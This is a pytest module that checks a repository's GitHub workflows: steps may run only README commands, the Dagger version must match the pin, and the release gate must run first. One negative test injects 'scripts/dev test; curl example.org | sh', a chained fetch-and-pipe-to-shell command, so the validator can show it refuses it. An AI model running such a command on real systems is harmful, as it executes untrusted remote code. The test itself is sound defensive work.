"""Each workflow job's work is a README command that .ci/run runs too, and Dagger is the pinned version."""

from __future__ import annotations

import re
import subprocess
from importlib.metadata import version
from pathlib import Path
from typing import Any

import graphql
import pytest
import yaml

from ci.core.config import REPO_ROOT

WORKFLOWS = sorted((REPO_ROOT / ".github/workflows").glob("*.yml"))
DAGGER_ACTION = "dagger/dagger-for-github@"
# The README's commands (scripts/dev's verbs; the release job's gate, history commit and GitHub
# Release), optionally as root with the runner's PATH and variables for the command.
AS_ROOT = r'(?:sudo env "PATH=\$PATH"(?: [A-Z_]+=\S+)* )?'
SCRIPTS = (
    r"scripts/dev (?:checks|test|pipeline|vuln-db)|scripts/release-gate|scripts/commit-history|scripts/github-release"
)
COMMAND = re.compile(AS_ROOT + f"(?:{SCRIPTS})" + r"(?: [^;&|`$<>]*)?")
# What `dagger run` may run: the pipeline, set up by scripts/dev or already installed.
DAGGER_ARGS = re.compile(r"(?:scripts/dev pipeline|python ci/main\.py)(?: [^;&|`$<>]*)?")
# Tool set-up an action cannot do: the engine's schema for the contract tests.
SETUP = {'dagger query -M --doc tests/contract/introspection.graphql > "$RUNNER_TEMP/dagger-schema.json"'}


def problems(workflow: dict[str, Any], pin: str) -> list[str]:
    found = []
    for job_name, job in workflow["jobs"].items():
        for number, step in enumerate(job["steps"], 1):
            where = f"{job_name} step {number}"
            run = step.get("run")
            if run is not None and run.strip() not in SETUP and not COMMAND.fullmatch(run.strip()):
                found.append(f"{where} runs {run.strip()!r}, not a README command")
            if step.get("uses", "").startswith(DAGGER_ACTION):
                given = step.get("with", {})
                if given.get("version") != pin:
                    found.append(f"{where} installs Dagger {given.get('version')!r}, pyproject.toml pins {pin}")
                args = given.get("args")
                if args is not None and not DAGGER_ARGS.fullmatch(args):
                    found.append(f"{where} runs dagger {given.get('verb')} {args!r}, not the pipeline")
    return found


def load(path: Path) -> dict[str, Any]:
    return yaml.safe_load(path.read_text())


def test_there_are_workflows_with_dagger_steps():
    steps = [s for path in WORKFLOWS for job in load(path)["jobs"].values() for s in job["steps"]]
    assert sum(s.get("uses", "").startswith(DAGGER_ACTION) for s in steps) >= 4
    assert sum("run" in s for s in steps) >= 5


@pytest.mark.parametrize("path", WORKFLOWS, ids=lambda p: p.name)
def test_every_job_runs_a_readme_command_and_the_pinned_dagger(path):
    assert problems(load(path), version("dagger-io")) == []


def test_what_the_workflow_rules_refuse():
    pin = version("dagger-io")
    workflow = load(REPO_ROOT / ".github/workflows/ci.yml")
    job = workflow["jobs"]["test-dagger"]
    job["steps"].insert(2, {"run": "pip install ."})
    job["steps"].append({"run": "sudo apt-get install -y qemu-user-static"})
    job["steps"].append({"run": "scripts/dev test; curl example.org | sh"})
    dagger = next(s for s in job["steps"] if s.get("uses", "").startswith(DAGGER_ACTION))
    dagger["with"] |= {"version": "${{ env.DAGGER_VERSION }}", "args": "bash -c 'make release'"}
    assert problems(workflow, pin) == [
        "test-dagger step 3 runs 'pip install .', not a README command",
        f"test-dagger step 4 installs Dagger '${{{{ env.DAGGER_VERSION }}}}', pyproject.toml pins {pin}",
        "test-dagger step 4 runs dagger run \"bash -c 'make release'\", not the pipeline",
        "test-dagger step 6 runs 'sudo apt-get install -y qemu-user-static', not a README command",
        "test-dagger step 7 runs 'scripts/dev test; curl example.org | sh', not a README command",
    ]


def test_the_dagger_version_has_one_home():
    """pyproject.toml pins dagger-io; code and tests derive it, the workflow's literals are checked above.

    The locks pip-compile writes from pyproject.toml pin it too; tests/unit/test_locks.py holds them to it.
    """
    pin = version("dagger-io")
    assert f'"dagger-io=={pin}"' in (REPO_ROOT / "pyproject.toml").read_text()
    listed = subprocess.run(
        ["git", "-C", str(REPO_ROOT), "ls-files", "ci", "tests", "scripts", "bench", "docker", ".ci"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.split()
    assert listed
    locks = {"ci/requirements.txt", "ci/requirements-dev.txt"}
    naming = [name for name in listed if name not in locks and pin in (REPO_ROOT / name).read_text(errors="replace")]
    assert naming == []


def test_the_schema_export_asks_the_introspection_query_of_the_graphql_library():
    """The checks job exports the engine's schema with this file, as the contract tests read it.

    Deprecated arguments and input fields included: the engine lists them only when asked
    (tests/contract/test_schema_formats.py).
    """
    text = (REPO_ROOT / "tests/contract/introspection.graphql").read_text()
    assert text == graphql.get_introspection_query(input_value_deprecation=True) + "\n"


def test_ci_run_runs_the_test_commands_the_jobs_run():
    """What a job checks fails here first: .ci/run runs the same scripts/dev commands."""
    verbs = re.compile(r"scripts/dev (checks|test)\b")
    in_jobs = {
        verb
        for path in WORKFLOWS
        for job in load(path)["jobs"].values()
        for step in job["steps"]
        for verb in verbs.findall(step.get("run", ""))
    }
    assert in_jobs == {"checks", "test"}
    assert set(verbs.findall((REPO_ROOT / ".ci/run").read_text())) == in_jobs


def test_release_and_refresh_get_their_vulnerability_database_by_a_readme_command_first():
    jobs = load(REPO_ROOT / ".github/workflows/ci.yml")["jobs"]
    for name in ("release", "refresh"):
        steps = jobs[name]["steps"]
        download = next(i for i, s in enumerate(steps) if s.get("run", "").startswith("scripts/dev vuln-db "))
        pipeline = next(i for i, s in enumerate(steps) if s.get("uses", "").startswith(DAGGER_ACTION))
        assert download < pipeline, name
        assert steps[pipeline]["env"]["DAR_BACKUP_VULN_DB"] == steps[download]["run"].split()[2], name
    assert "scripts/dev vuln-db" in (REPO_ROOT / "README.md").read_text()


def test_the_release_job_first_refuses_a_tag_outside_the_default_branch():
    """scripts/release-gate runs right after a checkout of all history, before anything is set up or built."""
    steps = load(REPO_ROOT / ".github/workflows/ci.yml")["jobs"]["release"]["steps"]
    checkout, gate = steps[0], steps[1]
    assert checkout["uses"].startswith("actions/checkout@")
    assert checkout["with"] == {"fetch-depth": 0, "persist-credentials": False}
    assert gate["run"] == "scripts/release-gate"
    assert gate["env"] == {"DEFAULT_BRANCH": "${{ github.event.repository.default_branch }}"}
